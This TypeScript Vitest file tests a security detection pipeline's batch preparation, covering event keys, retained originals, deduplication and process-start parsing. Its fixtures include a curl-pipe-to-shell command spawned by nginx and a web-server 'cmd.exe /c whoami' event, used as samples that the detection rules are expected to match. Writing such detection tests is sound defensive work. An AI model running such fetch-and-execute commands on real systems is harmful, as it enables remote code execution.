import { describe, expect, it } from "vitest";
import type { EcsEvent } from "@/lib/detection";
import { eventKey } from "./event-key";
import { prepareBatch, processStartOf } from "./prepare-batch";
import { shippedRuleSet } from "./test-support";

const ruleSet = shippedRuleSet();
const receivedAt = new Date("2026-11-09T12:00:00.000Z");

function process(parent: string, executable: string, commandLine: string) {
  return {
    "@timestamp": "2026-11-09T10:15:02.123Z",
    event: { kind: "event", category: ["process"], type: ["start"], action: "exec" },
    host: { name: "web01", os: { type: "linux" } },
    process: { executable, command_line: commandLine, parent: { executable: `/usr/sbin/${parent}`, name: parent } },
  };
}

describe("prepareBatch: which events get an identity", () => {
  const records = [
    { line: 1, value: process("nginx", "/bin/sh", "sh -c 'curl http://198.51.100.4/x | sh'") },
    { line: 2, value: process("systemd", "/usr/bin/logrotate", "logrotate /etc/logrotate.conf") },
    { line: 3, value: process("systemd", "/usr/bin/logrotate", "logrotate /etc/logrotate.conf") },
  ];

  it("identifies every event by default, and counts a repeated line once", () => {
    const batch = prepareBatch(records, ruleSet, receivedAt);
    expect(batch.accepted).toBe(3);
    expect(batch.events.map((e) => e.line)).toEqual([1, 2]);
    expect(batch.events.every((e) => /^sha256:[0-9a-f]{64}$/.test(e.key))).toBe(true);
  });

  it("with identify: matched, only events a rule matched carry a key (retention off stores no other)", () => {
    const batch = prepareBatch(records, ruleSet, receivedAt, { identify: "matched" });
    expect(batch.accepted).toBe(3);
    const shell = batch.events.find((e) => e.line === 1)!;
    expect(shell.matches.length + shell.candidates.length).toBeGreaterThan(0);
    expect(shell.key).toMatch(/^sha256:/);
    expect(batch.events.filter((e) => e.line !== 1).map((e) => e.key)).toEqual(["", ""]);
  });
});

describe("prepareBatch: what the store retains", () => {
  it("keeps the document as it arrived (re-serialized), and the key is over that text", () => {
    const sysmon = { EventID: 1, Computer: "WEB01", UtcTime: "2026-11-09 10:15:02.123", Image: "C:\\Windows\\System32\\cmd.exe", ProcessGuid: "{AAAA}", ProcessId: 4242, ParentProcessGuid: "{BBBB}", ParentProcessId: "17", ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe", CommandLine: "cmd.exe /c whoami" };
    const [e] = prepareBatch([{ line: 1, value: sysmon }], ruleSet, receivedAt).events;
    expect(JSON.parse(e!.original)).toEqual(sysmon);
    expect(e!.original).not.toContain("process"); // not the normalized event
    expect(e!.matches.length).toBeGreaterThan(0);
    expect(e!.key).toBe(eventKey(e!.original, e!.event!));
    expect(e!.receivedAt).toBe(receivedAt.toISOString());
  });

  it("gives the same key to the same event however it was spaced on the wire", () => {
    const a = JSON.parse('{"EventID":1,"Computer":"WEB01","Image":"C:\\\\x.exe"}') as Record<string, unknown>;
    const b = JSON.parse('{ "EventID" : 1,\t"Computer":"WEB01",   "Image":"C:\\\\x.exe" }') as Record<string, unknown>;
    const [ea] = prepareBatch([{ line: 1, value: a }], ruleSet, receivedAt).events;
    const [eb] = prepareBatch([{ line: 1, value: b }], ruleSet, receivedAt).events;
    expect(ea!.key).toBe(eb!.key);
  });

  it("leaves the original out with the key when the event needs no identity", () => {
    const batch = prepareBatch([{ line: 1, value: process("systemd", "/usr/bin/logrotate", "logrotate") }], ruleSet, receivedAt, { identify: "matched" });
    expect(batch.events[0]).toMatchObject({ key: "", original: "", processStart: null, timedByArrival: false, event: null });
    // The same event, identified, is a process start the store would index.
    const kept = prepareBatch([{ line: 1, value: process("systemd", "/usr/bin/logrotate", "logrotate") }], ruleSet, receivedAt);
    expect(kept.events[0]!.processStart).not.toBeNull();
  });
});

describe("processStartOf", () => {
  const start = (processFields: EcsEvent, event: EcsEvent = { category: ["process"], type: ["start"] }): EcsEvent => ({ event, process: processFields });

  it("reads a process start's entity ids and pids, from numbers or digit strings", () => {
    expect(processStartOf(start({ entity_id: "p1", pid: 42, parent: { entity_id: "p0", pid: "7" } }))).toEqual({ entityId: "p1", pid: 42, parentEntityId: "p0", parentPid: 7 });
    expect(processStartOf(start({ pid: 42 }, { category: "process", type: "start" }))).toEqual({ entityId: null, pid: 42, parentEntityId: null, parentPid: null });
  });

  it("is null for anything but a process start", () => {
    expect(processStartOf(start({ pid: 42 }, { category: ["process"], type: ["end"] }))).toBeNull();
    expect(processStartOf(start({ pid: 42 }, { category: ["network"], type: ["start"] }))).toBeNull();
    expect(processStartOf({ process: { pid: 42 } })).toBeNull();
  });

  it("drops pids a bigint column cannot hold or that are no pid", () => {
    expect(processStartOf(start({ pid: -1, parent: { pid: 2 ** 60 } }))).toMatchObject({ pid: null, parentPid: null });
    expect(processStartOf(start({ pid: 1.5, parent: { pid: "0x1f" } }))).toMatchObject({ pid: null, parentPid: null });
  });
});
